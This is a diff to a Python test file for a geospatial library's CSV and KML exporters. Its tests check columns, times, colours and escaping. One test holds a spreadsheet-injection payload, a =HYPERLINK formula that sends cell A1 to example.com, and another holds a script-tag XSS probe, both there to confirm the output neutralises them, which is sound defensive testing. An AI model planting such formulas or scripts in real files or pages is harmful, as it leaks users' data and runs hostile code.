@@ -1,5 +1,6 @@
 """Events to files, opened again with other libraries and checked against the schema."""
 
+import csv
 import hashlib
 import json
 import re
@@ -31,8 +32,10 @@ from groundbreak.types import FLAGS, Event, Interval, Kind
 from groundbreak.writers.geojson import event_feature, write_geojson
 from groundbreak.writers.geoparquet import read_geoparquet, write_geoparquet
 from groundbreak.writers.gpkg import write_gpkg
+from groundbreak.writers.kml import COLOURS, write_kml
 from groundbreak.writers.kwcoco import Video, write_kwcoco
 from groundbreak.writers.lonlat import to_lonlat
+from groundbreak.writers.spreadsheet import csv_columns, write_csv
 from groundbreak.writers.stac import write_stac
 from groundbreak.writers.table import LISTS, NUMBERS, TEXTS, TIMES, TRUTHS, columns
 
@@ -241,7 +244,7 @@ def test_gpkg_carries_a_style_with_a_time_slider(tmp_path: Path) -> None:
     }
 
 
-def test_a_kind_has_one_colour_in_qgis_and_in_the_report(tmp_path: Path) -> None:
+def test_a_kind_has_one_colour_in_qgis_in_google_earth_and_in_the_report(tmp_path: Path) -> None:
     package = resources.files("groundbreak")
     page = package.joinpath("report", "template.html").read_text("utf-8")
     qml = ET.fromstring(package.joinpath("writers", "events.qml").read_text("utf-8"))
@@ -251,7 +254,7 @@ def test_a_kind_has_one_colour_in_qgis_and_in_the_report(tmp_path: Path) -> None
         (symbol,) = [s for s in qml.iter("symbol") if s.get("name") == category.get("symbol")]
         options = {o.get("name"): o.get("value") or "" for o in symbol.iter("Option")}
         outline = [int(part) for part in options["outline_color"].split(",")[:3]]
-        assert bytes(outline).hex() == found[1]
+        assert bytes(outline).hex() == found[1] == COLOURS[category.get("value") or ""]
         assert '"provisional"' in options["expression"]
 
 
@@ -346,6 +349,136 @@ def test_what_is_not_a_file_of_events_is_refused(tmp_path: Path) -> None:
         read_geoparquet(broken)
 
 
+# --- CSV --------------------------------------------------------------------------------------
+
+HOOK = Polygon([(0, 0), (100, 0), (100, 10), (10, 10), (10, 90), (100, 90), (100, 100), (0, 100)])
+"""Its centre lies outside of it."""
+
+
+def read_csv(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.DictReader(file, strict=True))
+
+
+def test_csv_has_every_property_and_a_place(tmp_path: Path) -> None:
+    hook = shapely.affinity.translate(HOOK, 300_000, 4_000_000)
+    write_csv([replace(HALL, geometry=hook), UNFINISHED, SLIP], tmp_path / "e.csv")
+    assert (
+        (tmp_path / "e.csv").read_bytes().startswith(b"\xef\xbb\xbfid,site_id,site_name,kind,lon,")
+    )
+    hall, unfinished, slip = read_csv(tmp_path / "e.csv")
+    assert [name for name in hall if name not in ("lon", "lat")] == list(columns())
+    assert hall["site_name"] == "Chŏng Port"
+    assert hall["sentence"].startswith("A building of about 2,300 m² was")
+    assert (hall["start_datetime"], hall["end_datetime"]) == (
+        "2024-03-14 02:15:00",
+        "2024-07-09 02:15:00",
+    )
+    assert (hall["confidence"], hall["provisional"], slip["provisional"]) == (
+        "0.812",
+        "false",
+        "true",
+    )
+    assert (hall["before_scenes"], hall["flags"]) == ("s1; s2", "partly_cloudy; mixed_sensors")
+    assert (hall["length_m"], unfinished["end_datetime"], slip["length_m"]) == ("", "", "120.0")
+    place = shapely.Point(float(hall["lon"]), float(hall["lat"]))
+    assert to_lonlat(hook, UTM).contains(place)
+
+
+def test_csv_opens_in_pandas(tmp_path: Path) -> None:
+    import pandas as pd
+
+    write_csv(EVENTS, tmp_path / "e.csv")
+    table = pd.read_csv(tmp_path / "e.csv", parse_dates=list(TIMES))
+    assert list(table.columns) == list(csv_columns())
+    assert table["confidence"].tolist() == [0.812] * 3
+    assert table["start_datetime"][0] == pd.Timestamp("2024-03-14 02:15")
+
+
+def test_csv_holds_no_formula(tmp_path: Path) -> None:
+    """Names are those of other people's files; coordinates in the west stay numbers."""
+    evil = replace(
+        HALL,
+        site_id="+1",
+        site_name='=HYPERLINK("http://example.com?"&A1,"more")',
+        before_scenes=("@SUM(1)", "b"),
+        sentence="-2+3\nand more, with a comma",
+        geometry=box(500_000, 4_000_000, 500_060, 4_000_040),
+        crs="EPSG:32618",
+    )
+    write_csv([evil], tmp_path / "e.csv")
+    (row,) = read_csv(tmp_path / "e.csv")
+    assert row["site_name"] == "'" + evil.site_name
+    assert row["site_id"] == "'+1"
+    assert row["before_scenes"] == "'@SUM(1); b"
+    assert row["sentence"] == "'" + evil.sentence
+    assert -75.1 < float(row["lon"]) < -74.9
+    assert row["after_scenes"] == "s3"
+
+
+# --- KML --------------------------------------------------------------------------------------
+
+KML = {"k": "http://www.opengis.net/kml/2.2"}
+
+
+def test_kml_has_a_placemark_with_a_time_for_each_event(tmp_path: Path) -> None:
+    write_kml([*EVENTS, ELSEWHERE], tmp_path / "e.kml")
+    root = ET.parse(tmp_path / "e.kml").getroot()
+    folders = root.findall("k:Document/k:Folder", KML)
+    assert [len(folder.findall("k:Placemark", KML)) for folder in folders] == [3, 1]
+    styles = {style.get("id") for style in root.iter(f"{{{KML['k']}}}Style")}
+    hall, unfinished, slip = folders[0].findall("k:Placemark", KML)
+    assert [hall.findtext(f"k:TimeSpan/k:{end}", None, KML) for end in ("begin", "end")] == [
+        "2024-03-14T02:15:00Z",
+        "2024-07-09T02:15:00Z",
+    ]
+    assert unfinished.find("k:TimeSpan/k:end", KML) is None
+    assert slip.find("k:TimeSpan/k:begin", KML) is None
+    assert hall.findtext("k:name", None, KML) == "New building, between 14 March and 9 July 2024"
+    assert slip.findtext("k:name", None, KML) == "Docking slip, before 9 July 2024, provisional"
+    about = hall.findtext("k:description", "", KML)
+    assert HALL.sentence in about
+    assert "Take care: part of the footprint was hidden" in about
+    assert {hall.findtext("k:styleUrl", "", KML)[1:]} <= styles == {kind.value for kind in Kind}
+    data = {d.get("name"): d.findtext("k:value", "", KML) for d in hall.iter(f"{{{KML['k']}}}Data")}
+    assert set(data) == {*columns(), "lon", "lat"}
+    assert data["confidence"] == "0.812"
+
+
+def test_kml_opens_in_gdal(tmp_path: Path) -> None:
+    import pyogrio
+
+    across = replace(HALL, geometry=box(833_000, 100_000, 835_000, 101_000), crs="EPSG:32660")
+    write_kml([HALL, replace(across, site_id="far", site_name="Far")], tmp_path / "e.kml")
+    assert [name for name, _ in pyogrio.list_layers(tmp_path / "e.kml")] == ["Chŏng Port", "Far"]
+    for event, layer in ((HALL, "Chŏng Port"), (across, "Far")):
+        (read,) = pyogrio.read_dataframe(tmp_path / "e.kml", layer=layer).geometry
+        point, *areas = shapely.force_2d(shapely.get_parts(read))
+        wanted = to_lonlat(event.geometry, event.crs)
+        assert shapely.union_all(areas).symmetric_difference(wanted).area < 1e-5 * wanted.area
+        assert wanted.contains(point)
+
+
+def test_kml_holds_any_text(tmp_path: Path) -> None:
+    odd = replace(
+        HALL, site_name="A&B <i>\x00\x1b", sentence="<script>alert(1)</script> & \ufffe done"
+    )
+    write_kml([odd], tmp_path / "e.kml")
+    root = ET.parse(tmp_path / "e.kml").getroot()
+    assert root.findtext("k:Document/k:Folder/k:name", None, KML) == "A&B <i>"
+    placemark = root.find("k:Document/k:Folder/k:Placemark", KML)
+    assert placemark is not None
+    about = placemark.findtext("k:description", "", KML)
+    assert about.startswith("<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;  done</p>")
+
+
+@pytest.mark.parametrize("write", [write_csv, write_kml])
+def test_csv_and_kml_are_the_same_each_time(tmp_path: Path, write: Any) -> None:
+    write(EVENTS, tmp_path / "a")
+    write(EVENTS, tmp_path / "b")
+    assert (tmp_path / "a").read_bytes() == (tmp_path / "b").read_bytes()
+
+
 # --- nothing to write, nowhere to write ------------------------------------------------------
 
 
@@ -353,6 +486,10 @@ def test_no_events_make_valid_files(tmp_path: Path) -> None:
     write_geojson([], tmp_path / "e.geojson")
     write_gpkg([], tmp_path / "e.gpkg")
     write_geoparquet([], tmp_path / "e.parquet")
+    write_csv([], tmp_path / "e.csv")
+    write_kml([], tmp_path / "e.kml")
+    assert (tmp_path / "e.csv").read_text("utf-8-sig") == ",".join(csv_columns()) + "\n"
+    assert ET.parse(tmp_path / "e.kml").getroot().find("k:Document/k:Folder", KML) is None
     assert read_json(tmp_path / "e.geojson") == {"type": "FeatureCollection", "features": []}
     assert rows_of(tmp_path / "e.gpkg", "SELECT count(*) FROM events")[0][0] == 0
     assert len(rows_of(tmp_path / "e.gpkg", "SELECT * FROM layer_styles")) == 1
@@ -376,7 +513,9 @@ def test_files_are_replaced_whole(tmp_path: Path) -> None:
     assert sorted(path.name for path in tmp_path.iterdir()) == ["e.gpkg", "e.parquet"]
 
 
-@pytest.mark.parametrize("write", [write_geojson, write_gpkg, write_geoparquet])
+@pytest.mark.parametrize(
+    "write", [write_geojson, write_gpkg, write_geoparquet, write_csv, write_kml]
+)
 def test_a_place_that_cannot_be_written_is_named(tmp_path: Path, write: Any) -> None:
     (tmp_path / "file").write_text("in the way")
     with pytest.raises(OutputError, match="file"):
